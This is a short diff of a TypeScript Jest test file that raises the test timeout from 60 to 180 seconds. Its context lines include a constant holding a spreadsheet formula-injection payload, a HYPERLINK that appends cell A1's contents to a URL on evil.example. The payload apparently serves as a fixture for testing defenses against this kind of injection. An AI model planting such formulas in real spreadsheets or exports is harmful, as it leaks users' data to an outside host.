@@ -3,7 +3,7 @@ import { call, startAdministration, type Administration, type Answer } from './a
 import { chat, errorOf } from './requests.js';
 import { takeIn, type OwnTenant } from './trail.js';
 
-jest.setTimeout(60_000);
+jest.setTimeout(180_000);
 
 const FORMULA = '=HYPERLINK("https://evil.example?x="&A1,"open, please")';
 
